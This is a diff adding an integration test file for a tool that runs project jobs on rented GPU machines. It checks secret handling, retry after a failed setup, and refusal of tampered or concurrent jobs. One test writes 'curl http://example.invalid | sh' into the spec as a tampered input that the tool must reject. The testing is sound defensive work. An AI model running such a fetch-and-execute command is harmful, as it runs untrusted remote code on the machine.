@@ -1,0 +1,81 @@
+import { existsSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import { lacks } from '../../../needs.ts'
+import { hasSshd } from '../../ssh/sshd.ts'
+import { everyFile } from '../steps.ts'
+import { jobOf, openProject, write } from './place.ts'
+
+const lacking = lacks({ what: 'sshd', there: hasSshd })
+
+const spec = `name: digits
+machine: { gpu: [RTX 4090, RTX 3090, RTX 3080], price: 5 }
+env:
+  EPOCHS: 3
+  TOKEN: { secret: HUB_TOKEN }
+setup: test -f data/one.txt && echo ready > prepared
+run: |
+  cat prepared
+  mkdir -p out
+  echo "epochs $EPOCHS, token $TOKEN" > out/model.txt
+  cat data/one.txt >> out/model.txt
+results: out
+stop: { hours: 2, dollars: 4 }
+`
+
+describe.skipIf(lacking)(`a job${lacking}`, () => {
+  test('takes a folder to a machine, sets it up, runs it, brings its results home and destroys the machine', async () => {
+    const { world, under, folder, project, runProject } = await openProject({
+      'berth.yaml': spec,
+      'data/one.txt': 'one\n',
+    })
+    expect(under.berth.state().projects[project]).toMatchObject({ name: 'digits', problems: [] })
+    const before = await under.run('planProject', { project })
+    expect(before).toMatchObject({ missingSecrets: ['HUB_TOKEN'], known: false, longest: expect.any(Number) })
+    expect(before.most).toBeGreaterThan(0)
+    expect(before.offer?.gpuName).toMatch(/^RTX/)
+    await under.run('saveSecret', { name: 'HUB_TOKEN', value: 'hub-token-value' })
+
+    const id = await runProject()
+    await under.until(() => jobOf(under, id)?.step === 'done')
+    const job = jobOf(under, id)
+    expect(job).toMatchObject({ code: 0, brought: { files: 1, beside: [] }, moved: 0 })
+    expect(readFileSync(join(folder, 'out/model.txt'), 'utf8')).toBe('epochs 3, token hub-token-value\none\n')
+    expect(existsSync(join(folder, 'prepared'))).toBe(false)
+    await under.until(() => Object.keys(under.account().instances).length === 0)
+    expect(job?.cost.micros).toBeGreaterThan(0)
+    expect(job?.cost.micros).toBeLessThan(before.most ?? 0)
+    expect((await under.run('planProject', { project })).known).toBe(true)
+    for (const [name, text] of await everyFile(world))
+      expect(`${name} ${text}`).not.toContain('hub-token-value')
+  })
+
+  test('whose set-up fails stops its machine, and goes on from there once it is mended', async () => {
+    const { under, folder, project, runProject } = await openProject({
+      'berth.yaml': 'setup: test -f mended\nrun: echo fine > result.txt\nresults: [result.txt]\n',
+    })
+    const id = await runProject()
+    await under.until(() => jobOf(under, id)?.step === 'failed')
+    expect(jobOf(under, id)).toMatchObject({ failedAt: 'setup', problem: { code: 'setup_failed' } })
+    await under.until(() => Object.values(under.account().instances)[0]?.state === 'stopped')
+    write(folder, { mended: '' })
+    expect(under.berth.state().projects[project]?.name).toBe('digits')
+    await under.run('retryJob', { job: id })
+    await under.until(() => jobOf(under, id)?.step === 'done')
+    expect(readFileSync(join(folder, 'result.txt'), 'utf8')).toBe('fine\n')
+    await under.until(() => Object.keys(under.account().instances).length === 0)
+  })
+
+  test('is refused where its file has changed since it was looked at, and while another of its project goes on', async () => {
+    const { under, folder, project, runProject } = await openProject({ 'berth.yaml': 'run: sleep 60\n' })
+    const { content, stops } = await under.run('planProject', { project })
+    write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n' })
+    const asked = { project, content, stops, secretFiles: [] }
+    await expect(under.run('runProject', asked)).rejects.toMatchObject({ problem: { code: 'spec_changed' } })
+    const id = await runProject()
+    await expect(runProject()).rejects.toMatchObject({ problem: { code: 'project_busy' } })
+    await under.run('cancelJob', { job: id })
+    expect(jobOf(under, id)?.step).toBe('cancelled')
+    await under.until(() => Object.keys(under.account().instances).length === 0)
+  })
+})
